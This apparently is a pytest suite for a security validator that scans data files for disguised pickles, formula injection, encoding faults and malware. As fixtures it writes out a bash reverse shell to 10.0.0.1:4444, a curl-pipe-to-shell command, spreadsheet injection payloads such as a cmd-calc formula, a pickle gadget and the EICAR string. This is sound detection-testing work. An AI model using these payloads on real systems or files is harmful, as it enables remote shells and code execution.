"""DS5 checks on data files: content type, encoding, formulas, hidden pickles, malware."""

from __future__ import annotations

import io
import os
import pickle
import stat
import zipfile
from pathlib import Path

import numpy as np
import pytest

from secplan.data.malware import yara_available
from secplan.data.validate import check_file


def rules(path: Path) -> list[str]:
    return [i.rule for i in check_file(path)]


def eicar() -> bytes:
    """The EICAR test file, assembled here so no file in the repository holds it whole."""
    parts = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"]
    return "".join(parts).encode()


class Canary:
    """Unpickling this would create a marker file; nothing here may unpickle it."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (open, (self.marker, "w"))


def test_pickle_named_as_csv(tmp_path: Path) -> None:
    p = tmp_path / "train.csv"
    p.write_bytes(pickle.dumps(Canary(str(tmp_path / "CANARY"))))
    issues = check_file(p)
    assert [i.rule for i in issues][:2] == ["DT301", "DT303"]
    assert "MF rules" in issues[1].message
    assert not (tmp_path / "CANARY").exists()


def test_parquet_without_signature_and_truncated(tmp_path: Path) -> None:
    (tmp_path / "a.parquet").write_text("name,email\n")
    assert rules(tmp_path / "a.parquet") == ["DT301"]
    (tmp_path / "b.parquet").write_bytes(b"PAR1" + b"\0" * 100)
    assert rules(tmp_path / "b.parquet") == ["DT301"]


def test_object_arrays_in_npy_and_npz(tmp_path: Path) -> None:
    np.save(
        tmp_path / "o.npy",
        np.array([Canary(str(tmp_path / "CANARY"))], dtype=object),
        allow_pickle=True,
    )
    np.save(tmp_path / "f.npy", np.arange(10.0))
    assert rules(tmp_path / "o.npy") == ["DT303"]
    assert rules(tmp_path / "f.npy") == []
    buf = io.BytesIO()
    np.save(buf, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    with zipfile.ZipFile(tmp_path / "a.npz", "w") as zf:
        zf.writestr("x.npy", buf.getvalue())
        zf.writestr("y.npy", (tmp_path / "f.npy").read_bytes())
    issues = check_file(tmp_path / "a.npz")
    assert [(i.rule, i.member) for i in issues] == [("DT303", "x.npy")]
    assert not (tmp_path / "CANARY").exists()


def test_pandas_hdf5_store_with_pickled_objects(tmp_path: Path) -> None:
    p = tmp_path / "store.h5ad"
    p.write_bytes(
        b"\x89HDF\r\n\x1a\n"
        + b"\0" * 64
        + b"pandas_type"
        + b"\0" * 16
        + b"\x80\x04\x95"
        + b"\0" * 32
    )
    assert rules(p) == ["DT303"]
    clean = tmp_path / "clean.h5ad"
    clean.write_bytes(b"\x89HDF\r\n\x1a\n" + b"\0" * 200)
    assert rules(clean) == []


@pytest.mark.parametrize(
    ("cell", "fires"),
    [
        ('=HYPERLINK("http://x/?"&A1)', True),
        ("=cmd|' /C calc'!A0", True),
        ("@SUM(A1:A9)", True),
        ('+HYPERLINK("x")', True),
        ("\t=1+1", True),
        ("-5", False),
        ("-3.5e2", False),
        ("+44 20 7946 0018", False),
        ("@alice thanks", False),
        ("-", False),
        ("==", False),
    ],
)
def test_formula_injection(tmp_path: Path, cell: str, fires: bool) -> None:
    import csv

    p = tmp_path / "a.csv"
    with p.open("w", newline="") as fh:
        csv.writer(fh).writerows([["comment", "n"], [cell, "1"]])
    assert ("DT302" in rules(p)) is fires


def test_encoding_problems(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"name\nJos\xe9\n")
    (tmp_path / "b.jsonl").write_bytes(b'{"a": "x\x00y"}\n')
    (tmp_path / "c.csv").write_text("name\nJosé\n", encoding="utf-8")
    assert rules(tmp_path / "a.csv") == ["DT306"]
    assert rules(tmp_path / "b.jsonl") == ["DT306"]
    assert rules(tmp_path / "c.csv") == []


@pytest.mark.skipif(not yara_available(), reason="yara-python is not installed")
def test_yara_finds_eicar_and_payloads(tmp_path: Path) -> None:
    (tmp_path / "e.txt").write_bytes(eicar())
    issues = check_file(tmp_path / "e.txt")
    assert [(i.rule, i.severity) for i in issues] == [("DT304", "critical")]
    (tmp_path / "r.jsonl").write_text('{"text": "run bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}\n')
    assert rules(tmp_path / "r.jsonl") == ["DT304"]
    (tmp_path / "ok.jsonl").write_text('{"text": "a bash tutorial for beginners"}\n')
    assert rules(tmp_path / "ok.jsonl") == []
    # a fetched script piped into a shell: a payload in records, install steps in a README
    run = "curl -sSf https://sh.example.org/install | sh\n"
    (tmp_path / "d.jsonl").write_text('{"text": "' + run.strip() + '"}\n')
    assert rules(tmp_path / "d.jsonl") == ["DT304"]
    (tmp_path / "README.md").write_text("## Install\n\n    " + run)
    assert rules(tmp_path / "README.md") == []
    (tmp_path / "r.md").write_text("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
    assert rules(tmp_path / "r.md") == ["DT304"]


def test_clamav_verdict_is_reported_when_installed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    fake = bindir / "clamscan"
    fake.write_text(
        "#!/bin/sh\n"
        'for f; do case "$f" in -*) ;; *)\n'
        '  if grep -q EICAR "$f"; then echo "$f: Eicar-Test-Signature FOUND"; exit 1; fi\n'
        '  echo "$f: OK";; esac; done\n'
    )
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    (tmp_path / "e.txt").write_bytes(eicar())
    (tmp_path / "ok.txt").write_text("hello\n")
    assert "DT305" in rules(tmp_path / "e.txt")
    assert "DT305" not in rules(tmp_path / "ok.txt")


def test_pickle_dataset_is_handed_to_the_model_file_rules(tmp_path: Path) -> None:
    p = tmp_path / "features.pkl"
    p.write_bytes(pickle.dumps(Canary(str(tmp_path / "CANARY"))))
    issues = check_file(p)
    assert [i.rule for i in issues] == ["DT303"]
    assert "MF rules" in issues[0].message
    assert not (tmp_path / "CANARY").exists()


def test_a_malware_scan_that_fails_is_reported_not_passed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from secplan.data import malware, validate

    fake = tmp_path / "clamscan"
    fake.write_text("#!/bin/sh\necho 'LibClamAV Error: database not found' >&2\nexit 2\n")
    fake.chmod(0o755)
    monkeypatch.setattr(malware, "clamav_command", lambda: [str(fake)])
    monkeypatch.setattr(validate, "yara_scan", lambda path: [])
    data = tmp_path / "d.csv"
    data.write_text("a,b\n1,2\n")
    issues = validate.check_malware(data)
    assert [(i.rule, i.evidence) for i in issues] == [
        ("DT310", "LibClamAV Error: database not found")
    ]


def test_records_a_loader_would_misread_are_malformed(tmp_path: Path) -> None:
    from secplan.data.readers import Limits
    from secplan.data.validate import check_file

    extra = tmp_path / "extra.csv"
    extra.write_text("id,note\n1,ok\n2,hi,ana.silva@mail.pt,536-22-1847\n")
    assert rules(extra) == ["DT307"]  # cells beyond the header are not dropped unseen
    big = tmp_path / "big.csv"
    big.write_text("id,note\n1," + "x" * 5000 + "\n2,ok\n")
    issues = check_file(big, limits=Limits(max_field_chars=1000), malware=False)
    assert [i.rule for i in issues] == ["DT307"]
    jl = tmp_path / "e.jsonl"
    jl.write_text('{"a": 1}\n{"a": \n')
    assert rules(jl) == ["DT307"]
